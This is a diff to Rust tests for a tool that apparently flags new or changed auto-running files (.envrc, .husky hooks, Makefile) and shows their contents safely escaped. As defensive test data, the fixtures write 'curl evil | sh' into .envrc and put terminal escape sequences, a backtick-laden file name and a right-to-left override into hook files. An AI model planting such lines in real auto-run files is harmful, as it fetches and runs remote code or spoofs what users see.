@@ -70,7 +70,7 @@ impl Ground {
     /// The lines of what has changed, without why it matters.
     fn told(&self) -> Vec<String> {
         let look = self.look(false);
-        let lines = look.told(&look.changes()).into_iter().map(|(line, _)| line);
+        let lines = look.told(&look.changes()).lines.into_iter().map(|(line, _)| line);
         lines.map(|line| line.split(": check this").next().unwrap_or_default().to_owned()).collect()
     }
 
@@ -301,14 +301,49 @@ fn a_hundred_thousand_names_are_bounded_and_none_is_told_as_removed() {
         "{:?}",
         look.gaps()
     );
-    let told = look.told(&look.changes());
+    let told = look.told(&look.changes()).lines;
     assert_eq!(told.len(), 21);
-    assert_eq!(
-        told[20].0,
-        "280 more files that tools obey are new, changed or removed, 280 of which act by themselves"
-    );
+    let more =
+        "280 more files that tools obey are new, changed or removed, 280 of which act by themselves: all that changed";
+    assert!(told[20].0.starts_with(more), "{}", told[20].0);
     assert!(told.iter().all(|(line, _)| !line.contains("was removed")), "{told:?}");
     assert!(look.now.len() <= 2 * MOST);
+}
+
+#[test]
+fn many_changes_hide_none_and_what_is_not_shown_is_in_a_list() {
+    let g = Ground::new();
+    g.write("z/deep/er/.envrc", "of the user\n");
+    g.keep();
+    for n in 0..40 {
+        g.write(format!("a{n}/.editorconfig"), "decoy");
+    }
+    g.write("z/deep/er/.envrc", "of the user\ncurl evil | sh\n");
+    g.write(".husky/a b  `c", "evil\n\x1b[2J");
+    let look = g.look(false);
+    let told = look.told(&look.changes());
+    let first: Vec<&str> = told.lines.iter().take(3).map(|(line, _)| line.split(" is new").next().unwrap()).collect();
+    assert_eq!(first[0], "`.husky/a b\\u{20}\\u{20}\\u{60}c`");
+    assert!(
+        first[1].starts_with("`a0/.editorconfig`") && first[2].starts_with("`z/deep/er/.envrc` changed"),
+        "{first:?}"
+    );
+    assert_eq!(told.lines[2].1, ["+ curl evil | sh"]);
+    let list = g.dir.path().join("changed.txt");
+    let whole = format!("all that changed is in `{}`", list.display());
+    assert!(told.lines.last().unwrap().0.ends_with(&whole), "{:?}", told.lines.last());
+    assert_eq!(told.beyond.unwrap(), format!("42 files act by themselves, and lines of 8 are shown: {whole}"));
+    let text = fs::read_to_string(&list).unwrap();
+    assert_eq!(fs::metadata(&list).unwrap().mode() & 0o777, 0o600);
+    assert!((0..40).all(|n| text.contains(&format!("`a{n}/.editorconfig` is new"))), "{text}");
+    assert!(text.contains("\n    + decoy\n") && text.contains("    + \\u{1b}[2J\n"), "{text}");
+    // Few changes need no list, and no word about one.
+    look.keep().unwrap();
+    fs::remove_file(&list).unwrap();
+    g.write("a1/.editorconfig", "again");
+    let look = g.look(false);
+    let told = look.told(&look.changes());
+    assert!(told.lines.len() == 1 && told.beyond.is_none() && !list.exists());
 }
 
 #[test]
@@ -318,7 +353,7 @@ fn every_name_and_text_of_an_agents_is_shown_harmless() {
     let odd = OsStr::from_bytes(b".husky/\xff\x1b[2J\n\xe2\x80\xae");
     g.write(odd, "\x1b]0;owned\x07\u{202e}\r\n");
     let look = g.look(false);
-    let told = look.told(&look.changes());
+    let told = look.told(&look.changes()).lines;
     assert_eq!(told[0].0.split("` is new").next().unwrap(), "`.husky/\\xff\\u{1b}[2J\\n\\u{202e}");
     assert_eq!(told[0].1[0], "+ \\u{1b}]0;owned\\u{7}\\u{202e}\\r");
     look.keep().unwrap();
@@ -334,7 +369,7 @@ fn the_difference_is_shown_of_what_acts_by_itself_and_of_nothing_else() {
     g.write(".envrc", "export A=1\ncurl evil | sh\nexport B=2\n");
     g.write("Makefile", "all: evil\n");
     let look = g.look(false);
-    let shown: Vec<Vec<String>> = look.told(&look.changes()).into_iter().map(|(_, shown)| shown).collect();
+    let shown: Vec<Vec<String>> = look.told(&look.changes()).lines.into_iter().map(|(_, shown)| shown).collect();
     assert_eq!(shown, [vec!["+ curl evil | sh".to_owned()], Vec::new()]);
 }
 
